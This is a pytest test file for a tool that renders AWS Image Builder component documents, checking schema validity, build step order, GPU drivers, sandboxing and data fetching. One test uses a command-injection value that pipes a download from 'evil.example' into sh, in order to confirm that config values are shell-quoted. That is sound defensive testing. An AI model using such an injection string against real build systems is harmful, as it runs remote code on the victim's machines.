"""The AWSTOE component document rendered from pipelines/ and templates/."""

from __future__ import annotations

import shlex

import jsonschema
import pytest
import yaml

from ramp_fleet.cli import main
from ramp_fleet.config import load_event_config
from ramp_fleet.errors import UsageError
from ramp_fleet.image import document as document_module
from ramp_fleet.image.document import (
    PipelineSpec,
    build_context,
    load_pipeline,
    render_document,
    render_steps,
)

#: The parts of the AWSTOE document format (schemaVersion 1.0) Image Builder checks.
AWSTOE_SCHEMA = {
    "type": "object",
    "required": ["name", "schemaVersion", "phases"],
    "additionalProperties": False,
    "properties": {
        "name": {"type": "string", "minLength": 1},
        "description": {"type": "string"},
        "schemaVersion": {"const": 1.0},
        "phases": {
            "type": "array", "minItems": 1,
            "items": {
                "type": "object", "required": ["name", "steps"], "additionalProperties": False,
                "properties": {
                    "name": {"enum": ["build", "validate", "test"]},
                    "steps": {"type": "array", "minItems": 1, "items": {"$ref": "#/$defs/step"}},
                },
            },
        },
    },
    "$defs": {
        "step": {
            "type": "object",
            "required": ["name", "action", "inputs"],
            "additionalProperties": False,
            "properties": {
                "name": {"type": "string", "pattern": "^[A-Za-z][A-Za-z0-9]*$"},
                "action": {"enum": ["ExecuteBash", "Reboot"]},
                "timeoutSeconds": {"type": "integer", "minimum": -1, "maximum": 43200},
                "onFailure": {"enum": ["Abort", "Continue", "Ignore"]},
                "maxAttempts": {"type": "integer", "minimum": 1, "maximum": 10},
                "inputs": {"type": "object"},
            },
            "allOf": [
                {"if": {"properties": {"action": {"const": "ExecuteBash"}}},
                 "then": {"properties": {"inputs": {
                     "required": ["commands"], "additionalProperties": False,
                     "properties": {"commands": {"type": "array", "minItems": 1,
                                                 "items": {"type": "string"}}}}}}},
                {"if": {"properties": {"action": {"const": "Reboot"}}},
                 "then": {"properties": {"inputs": {
                     "additionalProperties": False,
                     "properties": {"delaySeconds": {"type": "integer", "minimum": 0}}}}}},
            ],
        },
    },
}


def steps_of(document: dict) -> dict[str, dict]:
    return {step["name"]: step for phase in document["phases"] for step in phase["steps"]}


def script(document: dict, step: str) -> str:
    return "\n".join(steps_of(document)[step]["inputs"]["commands"])


@pytest.fixture
def render(write_config):
    def run(kind: str, private_data: bool = False, **sections) -> dict:
        event = load_event_config(write_config(kind, **sections), runtime_files=False)
        text = render_document(event, "eu-west-1", private_data=private_data)
        return yaml.safe_load(text)

    return run


@pytest.mark.parametrize("kind", ["conda", "aws", "dask"])
@pytest.mark.parametrize("gpu", [False, True])
def test_document_validates_against_the_awstoe_schema(render, kind, gpu):
    infra = {"gpu": True, "build_instance_types": ["g4dn.xlarge"]} if gpu else {}
    document = render(kind, infra=infra)
    jsonschema.validate(document, AWSTOE_SCHEMA)
    assert [phase["name"] for phase in document["phases"]] == ["build", "validate", "test"]


def test_the_schema_rejects_a_broken_step(render):
    document = render("conda")
    del document["phases"][0]["steps"][0]["inputs"]["commands"]
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(document, AWSTOE_SCHEMA)


def test_build_steps_in_order(render):
    document = render("aws", private_data=True)
    assert list(steps_of(document)) == [
        "SystemPackages", "AllowBubblewrap", "InstallMiniforge", "CloneKit",
        "CreateEnvironment", "CondaOnUserPath", "FetchDataFromOSF", "CheckInstall", "QuickTest",
    ]


def test_gpu_flavour_adds_the_driver_and_a_reboot(render):
    document = render("conda", infra={"gpu": True, "build_instance_types": ["g4dn.xlarge"]})
    names = list(steps_of(document))
    assert names[1:3] == ["NvidiaDriver", "RebootForDriver"]
    assert steps_of(document)["RebootForDriver"]["action"] == "Reboot"
    assert "nvidia-driver-535-server" in script(document, "NvidiaDriver")
    assert "CheckGPU" in names
    assert "NvidiaDriver" not in list(steps_of(render("conda")))


def test_quick_test_runs_as_the_ami_user(render):
    document = render("aws", worker={"ami_user_name": "ec2-user",
                                     "remote_ramp_kit_folder": "~/kits/iris"})
    test_phase = document["phases"][-1]
    assert test_phase["name"] == "test"
    command = test_phase["steps"][0]["inputs"]["commands"][0]
    argv = shlex.split(command)
    assert argv[:6] == ["sudo", "-u", "ec2-user", "-H", "--", "bash"]
    assert argv[-1].startswith("set -euo pipefail\ncd /home/ec2-user/kits/iris\n")
    assert "--unshare-net" in argv[-1] and "--ro-bind \"$PWD\" \"$PWD\"" in argv[-1]
    assert argv[-1].endswith(" --cap-drop ALL -- \\\n  ramp-test --submission starting_kit "
                             "--quick-test\n")


def test_the_ami_installs_bubblewrap_and_allows_it_under_apparmor(render):
    document = render("aws")
    assert " bubblewrap\n" in script(document, "SystemPackages")
    allow = script(document, "AllowBubblewrap")
    assert "apparmor_restrict_unprivileged_userns" in allow
    assert "grep -qs '/usr/bin/bwrap' /etc/apparmor.d/*" in allow, "never two profiles for bwrap"
    assert "apparmor_parser -r /etc/apparmor.d/bwrap-userns-restrict" in allow
    assert "bwrap --unshare-all" in script(document, "CheckInstall")


def test_conda_env_on_the_users_path(render):
    text = script(render("dask"), "CondaOnUserPath")
    assert "profile=/home/ubuntu/.profile" in text
    assert "conda activate ramp-iris" in text
    create = script(render("dask"), "CreateEnvironment")
    assert "env create -q -n ramp-iris -f environment.yml" in create
    assert "install -y -q -n ramp-iris distributed" in create  # dask events only
    assert "distributed" not in script(render("conda"), "CreateEnvironment")


def test_kit_repository_defaults_to_ramp_kits(render):
    assert "git clone --depth 1 https://github.com/ramp-kits/iris.git /home/ubuntu/ramp-kit" in (
        script(render("conda"), "CloneKit"))


def test_config_values_are_shell_quoted(render):
    hostile = "https://example.org/kit.git; curl evil.example | sh"
    text = script(render("conda", infra={"kit_repository": hostile}), "CloneKit")
    inner = shlex.split(text)[-1]  # the script run by `bash -l -c` as the user
    assert shlex.split(inner.splitlines()[-1]) == [
        "git", "clone", "--depth", "1", hostile, "/home/ubuntu/ramp-kit"]


def test_data_steps_follow_the_data_source(render):
    assert not {"FetchDataFromOSF", "FetchDataFromS3"} & set(steps_of(render("conda")))
    s3 = script(render("dask"), "FetchDataFromS3")
    assert "aws s3 sync --only-show-errors --region eu-west-1" in s3
    assert "s3://ramp-data/iris /home/ubuntu/ramp-kit/data" in s3


def test_public_osf_data_reads_no_parameter(render):
    text = script(render("aws", private_data=False), "FetchDataFromOSF")
    assert "ssm get-parameter" not in text
    assert "osf_args=(-p abc12)" in text


def test_private_osf_data_reads_ssm_at_build_time(render):
    text = script(render("aws", private_data=True), "FetchDataFromOSF")
    assert "ssm get-parameter --region eu-west-1" in text
    assert "--with-decryption" in text
    assert "/ramp-fleet/iris_aws/osf-username" in text
    assert "/ramp-fleet/iris_aws/osf-password" in text
    assert "set -x" not in text


def test_unknown_step_keys_are_refused(tmp_path, monkeypatch):
    (tmp_path / "odd.yml").write_text(
        "description: odd\nsteps:\n  - {name: A, phase: build, run: 'true', timout: 5}\n")
    monkeypatch.setattr(document_module, "PIPELINES_DIR", tmp_path)
    load_pipeline.cache_clear()
    try:
        with pytest.raises(UsageError, match="timout"):
            load_pipeline("odd")
        with pytest.raises(UsageError, match="no pipeline flavour 'tpu'"):
            load_pipeline("tpu")
    finally:
        load_pipeline.cache_clear()


def test_undefined_variables_fail_loudly(write_config):
    event = load_event_config(write_config("conda"), runtime_files=False)
    spec = PipelineSpec.model_validate(
        {"description": "x", "steps": [{"name": "A", "phase": "build", "run": "{{ nope }}"}]})
    with pytest.raises(Exception, match="nope"):
        render_steps(spec, build_context(event, "eu-west-1", private_data=False))


def test_cli_prints_the_document(write_config, capsys):
    main(["image", "render", str(write_config("aws")), "--private-data"])
    out = capsys.readouterr().out
    jsonschema.validate(yaml.safe_load(out), AWSTOE_SCHEMA)
    assert "/ramp-fleet/iris_aws/osf-password" in out


def test_cli_needs_a_region(write_config, capsys):
    path = write_config("conda", infra={"region": None})
    with pytest.raises(SystemExit) as exit_info:
        main(["image", "render", str(path)])
    assert exit_info.value.code == 2
    assert "infra.region: is required" in capsys.readouterr().err
